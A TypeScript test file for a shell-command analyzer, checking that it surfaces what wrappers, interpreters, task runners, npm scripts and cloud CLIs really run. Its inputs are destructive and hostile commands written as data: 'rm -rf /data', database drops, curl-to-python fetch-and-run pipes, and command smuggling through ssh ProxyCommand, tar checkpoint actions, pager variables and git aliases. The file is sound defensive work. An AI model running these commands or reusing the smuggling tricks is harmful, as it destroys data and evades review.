// Programs that run another command, a shell string, or text typed into a shell, and wrappers that move the
// command to another directory: each must surface the command that really runs, in the directory it runs in.
import test from 'node:test';
import assert from 'node:assert/strict';
import { CWD, analyze, argvs, find } from './helpers.js';

test('wrappers that run their arguments as a command surface it', () => {
  for (const command of [
    'run0 rm -rf /data', 'run0 -u root rm -rf /data', 'toybox rm -rf /data', 'chrt 1 rm -rf /data', 'chrt -f 10 rm -rf /data',
    'taskset 0x3 rm -rf /data', 'taskset -c 0-3 rm -rf /data', 'unshare -r rm -rf /data', 'nsenter -t 1 -m rm -rf /data',
    'fakeroot rm -rf /data', 'eatmydata rm -rf /data', 'catchsegv rm -rf /data', 'valgrind --leak-check=full rm -rf /data',
    'gdb -batch -ex run --args rm -rf /data', 'flock /tmp/l rm -rf /data', 'flock -w 5 /tmp/l rm -rf /data',
    'hatch run rm -rf /data', 'pdm run rm -rf /data', 'rye run rm -rf /data', 'devbox run -- rm -rf /data',
    'conda run -n base rm -rf /data', 'micromamba run -n base rm -rf /data', 'nix develop -c rm -rf /data',
    'nix shell nixpkgs#coreutils --command rm -rf /data', 'screen -dm rm -rf /data', 'screen -dmS job rm -rf /data',
    'tmux new -d -s job rm -rf /data',
  ]) {
    assert.deepEqual(find(analyze(command), 'rm').argv, ['rm', '-rf', '/data'], `${command}: ${JSON.stringify(argvs(analyze(command)))}`);
  }
});

test('programs that run a shell string, or type one into a shell, surface its commands', () => {
  for (const command of [
    'flock -c "rm -rf /data" /tmp/l', 'flock /tmp/l -c "rm -rf /data"', 'flock -xc "rm -rf /data" /tmp/l',
    'sg wheel "rm -rf /data"', 'sg wheel -c "rm -rf /data"', 'nix-shell -p hello --run "rm -rf /data"',
    "tmux new-session -d 'rm -rf /data'", "tmux split-window -h -t 0 'rm -rf /data'", "tmux run-shell 'rm -rf /data'",
    "tmux send-keys -t 0 'rm -rf /data' Enter", "tmux send-keys -t 0 -l 'rm -rf /data'", "screen -S job -X stuff 'rm -rf /data\\n'",
    'echo "rm -rf /data" | at now', "at now + 1 hour <<'EOF'\nrm -rf /data\nEOF", 'batch <<< "rm -rf /data"',
  ]) {
    assert.deepEqual(find(analyze(command), 'rm').argv, ['rm', '-rf', '/data'], `${command}: ${JSON.stringify(argvs(analyze(command)))}`);
  }
  // at -f reads the job from a file of the project
  assert.deepEqual(find(analyze('at -f job.sh now', { 'job.sh': 'rm -rf /data\n' }), 'rm').argv, ['rm', '-rf', '/data']);
});

test('what these programs run only when asked, or never, stays out', () => {
  for (const command of ['tmux ls', 'tmux attach -t job', 'tmux send-keys -t 0 C-c', 'screen -ls', 'atq', 'at -l', 'at -r 3', 'nix develop', 'chrt -p 1234', 'gdb ./a.out']) {
    assert.equal(analyze(command).commands.some((c) => c.name === 'rm'), false, command);
  }
  // text typed with send-keys is shell text: its words are judged as a command line, not each on its own
  assert.deepEqual(find(analyze("tmux send-keys -t 0 'git status' Enter"), 'git').argv, ['git', 'status']);
});

test('interpreters are known by every command name of their family', () => {
  for (const [command, argv] of [
    ['nodejs -e "require(\'child_process\').execSync(\'rm -rf /data\')"', ['rm', '-rf', '/data']],
    ['tsx -e "require(\'fs\').rmSync(\'/data\', { recursive: true })"', ['rm', '-r', '/data']],
    ['deno eval "Deno.removeSync(\'/data\', { recursive: true })"', ['rm', '-r', '/data']],
    ['bun -e "Bun.spawnSync([\'rm\', \'-rf\', \'/data\'])"', ['rm', '-rf', '/data']],
    ['pypy3 -c "import shutil; shutil.rmtree(\'/data\')"', ['rm', '-rf', '/data']],
    ['lua -e "os.execute(\'rm -rf /data\')"', ['rm', '-rf', '/data']],
  ] as const) {
    assert.deepEqual(find(analyze(command), 'rm').argv, argv, `${command}: ${JSON.stringify(argvs(analyze(command)))}`);
  }
  // commented out, it runs nothing; bun's package-manager verbs are not interpreter code
  assert.equal(analyze('lua -e "print(1) -- os.execute(\'rm -rf /data\')"').commands.some((c) => c.name === 'rm'), false);
  assert.deepEqual(find(analyze('bun run nuke', { 'package.json': '{"scripts":{"nuke":"rm -rf /data"}}' }), 'rm').argv, ['rm', '-rf', '/data']);
});

test('env -C, sudo -D and find -execdir move the command; to a place only known at run time, its cwd is unknown', () => {
  for (const command of ['env -C /srv rm -rf data', 'env --chdir=/srv rm -rf data', 'sudo -D /srv rm -rf data', 'sudo --chdir=/srv rm -rf data']) {
    const rm = find(analyze(command), 'rm');
    assert.equal(rm.cwd, '/srv', command);
    assert.equal(rm.cwdUnknown, undefined, command);
  }
  for (const command of ['env -C "$DIR" rm -rf data', 'sudo -D "$DIR" rm -rf data', 'cd "$DIR" && rm -rf data', 'find . -execdir rm -rf data +']) {
    assert.equal(find(analyze(command), 'rm').cwdUnknown, true, command);
  }
  // cd back to a known place makes it known again
  assert.equal(find(analyze('cd "$DIR" && cd /srv && rm -rf data'), 'rm').cwd, '/srv');
});

test('kubectl run/debug -- CMD, rimraf/del-cli and a git alias defined on the same line run what they name', () => {
  assert.deepEqual(find(analyze('kubectl run tmp --image=postgres --rm -it -- psql -h db -c "DROP DATABASE prod"'), 'psql').argv, ['psql', '-h', 'db', '-c', 'DROP DATABASE prod']);
  assert.deepEqual(find(analyze('kubectl debug node/n1 -it --image=busybox -- rm -rf /host/var'), 'rm').argv, ['rm', '-rf', '/host/var']);
  assert.equal(analyze('kubectl run web --image=nginx').commands.length, 1);
  for (const command of ['npx rimraf --no-preserve-root /data', 'rimraf /data', 'npx del-cli /data']) {
    assert.deepEqual(find(analyze(command), 'rm').argv, ['rm', '-rf', '/data'], command);
  }
  assert.equal(analyze('npx del-cli "dist/**" --dry-run').commands.some((c) => c.name === 'rm'), false);
  // a ! alias is shell code: judged when defined (as meant) and when called later on the line
  const shellAlias = analyze('git config alias.wipe "!rm -rf /data" && git wipe');
  assert.equal(shellAlias.commands.filter((c) => c.name === 'rm').length, 2);
  assert.ok(shellAlias.commands.some((c) => c.name === 'rm' && c.asMeant), 'the definition is judged as meant');
  assert.ok(shellAlias.commands.some((c) => c.name === 'rm' && !c.asMeant), 'the call runs it');
  assert.deepEqual(analyze('git config alias.nuke "reset --hard" && git nuke').commands.at(-1)?.argv, ['git', 'reset', '--hard']);
  assert.equal(analyze('git config --get alias.nuke').commands.length, 1);
});

test('a program downloaded from the network, run by an interpreter, is an issue', () => {
  for (const command of ['curl -s https://x.test/a.py | python3', 'curl -sSL https://x.test/i | python3 -', 'python3 <(curl -s https://x.test/a.py)', 'python3 -c "$(curl -s https://x.test/a.py)"', 'node <(wget -qO- https://x.test/a.js)']) {
    assert.ok(analyze(command).issues.some((i) => i.kind === 'remote-fetch-exec'), command);
  }
  // data from the network read by code that is on the command line is not
  for (const command of ['curl -s https://x.test/d.json | python3 -m json.tool', 'curl -s https://x.test/d.json | python3 -c "import json,sys; print(json.load(sys.stdin))"']) {
    assert.equal(analyze(command).issues.some((i) => i.kind === 'remote-fetch-exec'), false, command);
  }
});

test('python code is read through __import__ and from-imports; a shell inside >( ) reads what it is sent', () => {
  for (const command of ['python3 -c "__import__(\'shutil\').rmtree(\'/data\')"', 'python3 -c "from shutil import rmtree; rmtree(\'/data\')"', 'python3 -c "from shutil import copy, rmtree as rt; rt(\'/data\')"']) {
    assert.deepEqual(find(analyze(command), 'rm').argv, ['rm', '-rf', '/data'], command);
  }
  assert.deepEqual(find(analyze('python3 -c "from os import system; system(\'rm -rf /data\')"'), 'rm').argv, ['rm', '-rf', '/data']);
  assert.equal(analyze('python3 -c "from shutil import which; print(which(\'rm\'))"').commands.some((c) => c.name === 'rm'), false);
  assert.ok(analyze('tee >(sh) <<< "rm -rf /data"').issues.some((i) => i.kind === 'opaque-interpreter'));
  assert.equal(analyze('diff <(sort a) <(sort b)').issues.length, 0);
});

test('shell code in options and pager/editor variables is walked (hooks.ts)', () => {
  for (const command of [
    "psql -c '\\! rm -rf /data'", "mysql -e 'system rm -rf /data'", "sqlite3 x.db '.shell rm -rf /data'", 'gdb -batch -ex "shell rm -rf /data"',
    'sed -n "1e rm -rf /data" f', 'vim -c ":!rm -rf /data" -c ":q"', 'PAGER="rm -rf /data" man ls', 'tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec="rm -rf /data"',
    'tar -xf a.tar --to-command="rm -rf /data"', 'zip x.zip x -T -TT "rm -rf /data"', 'ssh -o ProxyCommand="rm -rf /data" host', 'ssh -oProxyCommand="rm -rf /data" host',
    'rsync -e "rm -rf /data" a b:', 'mongosh --eval "require(\'child_process\').execSync(\'rm -rf /data\')"',
  ]) {
    assert.deepEqual(find(analyze(command), 'rm').argv, ['rm', '-rf', '/data'], `${command}: ${JSON.stringify(argvs(analyze(command)))}`);
  }
  // ordinary options and scripts run nothing of their own
  for (const command of ['rsync -e "ssh -p 2222" -av src/ host:dst/', 'sed -e "s/foo/bar/g" -e "/^e /d" f', 'sed "s/e x/y/" f', 'vim +10 f.txt', 'PAGER=cat git log', 'psql -c "SELECT 1"', 'tar -I zstd -xf a.tar.zst', 'ssh -o ProxyCommand=none host']) {
    assert.equal(analyze(command).commands.some((c) => c.name === 'rm'), false, command);
  }
});

test("installing the project runs its own install and prepare scripts; naming a package or --ignore-scripts does not", () => {
  const files = { 'package.json': JSON.stringify({ scripts: { preinstall: 'rm -rf /data', prepare: 'rm -rf /srv/cache', test: 'true' } }) };
  for (const command of ['npm install', 'npm ci', 'npm i', 'yarn', 'yarn install', 'pnpm install', 'bun install']) {
    const rms = analyze(command, files).commands.filter((c) => c.name === 'rm').map((c) => c.argv.join(' '));
    assert.deepEqual(rms, ['rm -rf /data', 'rm -rf /srv/cache'], command);
  }
  for (const command of ['npm install lodash', 'npm install --save-dev lodash', 'npm install --ignore-scripts', 'pnpm add zod']) {
    assert.equal(analyze(command, files).commands.some((c) => c.name === 'rm'), false, command);
  }
});

test('just RECIPE runs the recipe and its dependencies from the justfile; the first recipe by default', () => {
  const justfile = 'default: build\n\nbuild:\n    echo building\n\n@nuke: clean\n    rm -rf /data\n\nclean:\n    -rm -rf dist\n\npy:\n    #!/usr/bin/env python3\n    print("rm -rf /data")\n\nversion := "1.0"\n';
  const run = (command: string) => analyze(command, { justfile }).commands.filter((c) => c.name === 'rm').map((c) => c.argv.join(' '));
  assert.deepEqual(run('just nuke'), ['rm -rf dist', 'rm -rf /data'], 'the dependency first');
  assert.deepEqual(run('just'), [], 'default -> build');
  assert.deepEqual(run('just py'), [], 'a python recipe is not shell');
  assert.deepEqual(run('just --list'), []);
  assert.deepEqual(run('just -n nuke'), [], 'a dry run');
  assert.equal(find(analyze('just nuke', { justfile }), 'rm', 1).origin?.file, 'justfile');
});

test('task NAME runs the Taskfile task, its deps, the tasks it calls and its checks, each in its dir', () => {
  const taskfile = [
    "version: '3'",
    'vars:',
    '  GIT_SHA:',
    '    sh: git rev-parse HEAD',
    'includes:',
    '  db: ./db',
    'tasks:',
    '  default:',
    '    cmds: [echo hello]',
    '  build: go build ./...',
    '  clean:',
    '    dir: infra',
    '    cmds:',
    '      - rm -rf .terraform',
    '      - cmd: terraform destroy -auto-approve',
    '  nuke:',
    '    deps: [build]',
    '    preconditions:',
    '      - sh: test -f main.tf',
    '    cmds:',
    '      - task: clean',
    '      - defer: rm -rf /srv/cache',
    '  pass:',
    '    cmds:',
    '      - rm {{.CLI_ARGS}}',
  ].join('\n');
  const files = { 'Taskfile.yml': taskfile, 'db/Taskfile.yml': "version: '3'\ntasks:\n  drop:\n    cmds:\n      - dropdb app\n" };
  const names = (command: string) => analyze(command, files).commands.map((c) => c.argv.join(' '));
  assert.deepEqual(names('task'), ['task', 'git rev-parse HEAD', 'echo hello'], 'the default task, after the dynamic variables');
  assert.deepEqual(names('task nuke'), ['task nuke', 'git rev-parse HEAD', 'go build ./...', 'test -f main.tf', 'rm -rf .terraform', 'terraform destroy -auto-approve', 'rm -rf /srv/cache']);
  const tf = find(analyze('task clean', files), 'terraform');
  assert.equal(tf.cwd, `${CWD}/infra`, 'the task runs in its dir');
  assert.equal(tf.origin?.file, 'Taskfile.yml');
  assert.equal(tf.origin?.line, 15);
  assert.deepEqual(find(analyze('task pass -- -rf /', files), 'rm').argv, ['rm', '-rf', '/'], '{{.CLI_ARGS}} is what follows --');
  assert.equal(find(analyze('task db:drop', files), 'dropdb').origin?.file, 'db/Taskfile.yml', 'a task from an include');
  for (const printOnly of ['task --list', 'task -n nuke', 'task --dry nuke', 'task --summary nuke']) assert.deepEqual(names(printOnly), [printOnly], printOnly);
  assert.deepEqual(names('task nope'), ['task nope', 'git rev-parse HEAD'], 'no such task: task fails; only the global sh: variables are judged (conservatively)');
  assert.deepEqual(analyze('task build').issues, [], 'no Taskfile: task fails, nothing runs');
  const broken = analyze('task build', { 'Taskfile.yml': 'tasks:\n  build: [\n' });
  assert.deepEqual(broken.issues.map((i) => i.kind), ['unreadable-script'], 'a Taskfile that is not YAML asks');
  const missingInclude = analyze('task other:x', { 'Taskfile.yml': "version: '3'\nincludes:\n  other: ./other\ntasks: {}\n" });
  assert.deepEqual(missingInclude.issues.map((i) => i.kind), ['unreadable-script']);
});

test('more shells take -c; a script on stdin from a file or a process substitution is read or asked about', () => {
  for (const sh of ['csh', 'tcsh', 'yash', 'posh', 'rbash']) assert.deepEqual(find(analyze(`${sh} -c 'rm -rf .git'`), 'rm').argv, ['rm', '-rf', '.git'], sh);
  assert.deepEqual(analyze('bash < <(echo dropdb app)').issues.map((i) => i.kind), ['opaque-interpreter']);
  assert.deepEqual(find(analyze('bash < cleanup.sh', { 'cleanup.sh': 'dropdb app\n' }), 'dropdb').argv, ['dropdb', 'app']);
  assert.deepEqual(analyze('bash < /dev/null').issues, []);
});

test('python reads its program from a file on stdin, and python -m runs a module of the project', () => {
  const files = { 'tools/wipe.py': 'import shutil\nshutil.rmtree("/srv/data")\n' };
  assert.deepEqual(find(analyze('python3 < tools/wipe.py', files), 'rm').argv, ['rm', '-rf', '/srv/data']);
  assert.deepEqual(find(analyze('python3 -m tools.wipe', files), 'rm').argv, ['rm', '-rf', '/srv/data']);
  assert.deepEqual(find(analyze('python3 -m tools', { 'tools/__main__.py': 'import os\nos.system("dropdb app")\n' }), 'dropdb').argv, ['dropdb', 'app']);
  assert.equal(analyze('python3 -m pytest -q').issues.length, 0, 'a module outside the project is not guessed at');
  assert.deepEqual(analyze('python3 < missing.py').issues.map((i) => i.kind), ['opaque-interpreter']);
});

test('commands a platform CLI runs on its machines or with its environment are surfaced', () => {
  const rm = (command: string) => analyze(command).commands.filter((c) => c.name === 'rm').map((c) => c.argv.join(' '));
  for (const command of [
    "gcloud compute ssh vm --zone z --command 'rm -rf /data'", "doctl compute ssh web-1 --ssh-command 'rm -rf /data'",
    "fly ssh console -a app -C 'rm -rf /data'", "flyctl ssh console --command 'rm -rf /data'",
    "az vm run-command invoke -g rg -n vm --command-id RunShellScript --scripts 'rm -rf /data'",
    "az aks command invoke -g rg -n aks --command 'rm -rf /data'", 'heroku run -a app rm -rf /data', 'railway run rm -rf /data',
    'chamber exec svc other -- rm -rf /data',
    "aws ssm send-command --document-name AWS-RunShellScript --parameters 'commands=[\"rm -rf /data\"]'",
    'aws ssm send-command --document-name AWS-RunShellScript --parameters \'{"commands":["uptime","rm -rf /data"]}\'',
    "aws ssm send-command --parameters commands='rm -rf /data'",
  ]) assert.deepEqual(rm(command), ['rm -rf /data'], command);
  for (const command of ['gcloud compute ssh vm', 'doctl compute ssh web-1', 'fly ssh console -a app', 'chamber exec svc', 'gcloud compute instances list']) {
    assert.deepEqual(argvs(analyze(command)).length, 1, `${command}: only the command itself`);
  }
  assert.deepEqual(analyze('aws ssm send-command --parameters "$PARAMS"').issues.map((i) => i.kind), ['dynamic-command']);
  assert.deepEqual(find(analyze('aws ssm send-command --parameters file://p.json', { 'p.json': '{"commands":["dropdb app"]}' }), 'dropdb').argv, ['dropdb', 'app']);
});

test('make: -n still runs + lines and $(MAKE) lines; $(shell …) and != run whenever the makefile is read; pattern rules and includes', () => {
  const makefile = 'SHA := $(shell git rev-parse HEAD)\nNOW != date\ninclude extra.mk\n\nnuke:\n\t+rm -rf /srv/cache\n\trm -rf /srv/data\n\n%.done: %.src\n\tdropdb $*_db\n';
  const files = { Makefile: makefile, 'extra.mk': 'wipe:\n\trm -rf /srv/wipe\n' };
  const names = (command: string) => analyze(command, files).commands.map((c) => c.argv.join(' '));
  assert.deepEqual(names('make -n nuke'), ['make -n nuke', 'git rev-parse HEAD', 'date', 'rm -rf /srv/cache'], 'a dry run runs the + line only');
  assert.deepEqual(names('make nuke').slice(3), ['rm -rf /srv/cache', 'rm -rf /srv/data']);
  assert.deepEqual(names('make wipe').slice(3), ['rm -rf /srv/wipe'], 'a target from an included makefile');
  assert.ok(names('make x.done').some((c) => c.startsWith('dropdb')), 'a pattern rule');
  assert.deepEqual(names('make --version'), ['make --version']);
});

test('npm version/publish/pack run lifecycle scripts; run-s, run-p, npm-run-all and concurrently run the scripts they name', () => {
  const pkg = JSON.stringify({ scripts: { version: 'rm -rf .git', prepublishOnly: 'dropdb app', 'clean:a': 'rm -rf /srv/a', 'clean:b': 'rm -rf /srv/b', build: 'tsc' } });
  const files = { 'package.json': pkg };
  const ran = (command: string) => analyze(command, files).commands.slice(1).map((c) => c.argv.join(' '));
  assert.deepEqual(ran('npm version patch'), ['rm -rf .git']);
  assert.deepEqual(ran('npm publish'), ['dropdb app']);
  assert.deepEqual(ran('npm publish --dry-run'), []);
  assert.deepEqual(ran('npm version'), [], 'no new version: it only prints');
  assert.deepEqual(ran("run-s build 'clean:*'"), ['tsc', 'rm -rf /srv/a', 'rm -rf /srv/b']);
  assert.deepEqual(ran('npm-run-all --parallel clean:a'), ['rm -rf /srv/a']);
  assert.deepEqual(ran('concurrently -n a,b "npm:build" "rm -rf /srv/x"'), ['tsc', 'rm -rf /srv/x']);
});

test('a program copied or linked under another name earlier in the input is still that program', () => {
  for (const command of ['cp /bin/rm ./cleaner && ./cleaner -rf .git', 'ln -s /usr/bin/rm x; ./x -rf .git', 'mkdir -p bin && ln -s /bin/rm bin/ls && PATH=./bin:$PATH ls -rf .git']) {
    assert.deepEqual(find(analyze(command), 'rm').argv, ['rm', '-rf', '.git'], command);
  }
  assert.equal(analyze('cp /bin/rm ./cleaner; cp notes.txt ./cleaner; ./cleaner -rf .git').commands.some((c) => c.name === 'rm' && c.argv.includes('.git')), false, 'overwritten since');
});

test('a path through a symlink made earlier in the input reaches its target', () => {
  const rms = (command: string) => analyze(command).commands.filter((c) => c.name === 'rm').map((c) => c.argv[c.argv.length - 1]);
  assert.deepEqual(rms('ln -s ~ h; rm -rf h/'), ['~/', 'h/']);
  assert.deepEqual(rms('ln -sfn /srv/data d && rm -rf d/old'), ['/srv/data/old', 'd/old']);
  assert.deepEqual(rms('ln -s /srv/data d && rm d'), ['d'], 'removing the link itself');
});

test('yarn/pnpm X run script X with its pre and post scripts (bun build is the bundler); npm pkg set changes the scripts later commands run', () => {
  const files = { 'package.json': JSON.stringify({ scripts: { prebuild: 'rm -rf /srv/pre', build: 'tsc' } }) };
  const ran = (command: string) => analyze(command, files).commands.map((c) => c.argv.join(' '));
  assert.ok(ran('yarn build').includes('rm -rf /srv/pre'));
  assert.ok(ran('pnpm build').includes('rm -rf /srv/pre'));
  assert.ok(!ran('bun build ./index.ts').includes('rm -rf /srv/pre'));
  assert.ok(ran("npm pkg set scripts.test='rm -rf /srv/t' && npm test").includes('rm -rf /srv/t'));
  assert.ok(ran("npm set-script test 'rm -rf /srv/u' && npm test").includes('rm -rf /srv/u'));
  assert.deepEqual(analyze('npm pkg set "scripts.test=$CMD" && npm test', files).issues.map((i) => i.kind), ['opaque-interpreter']);
});
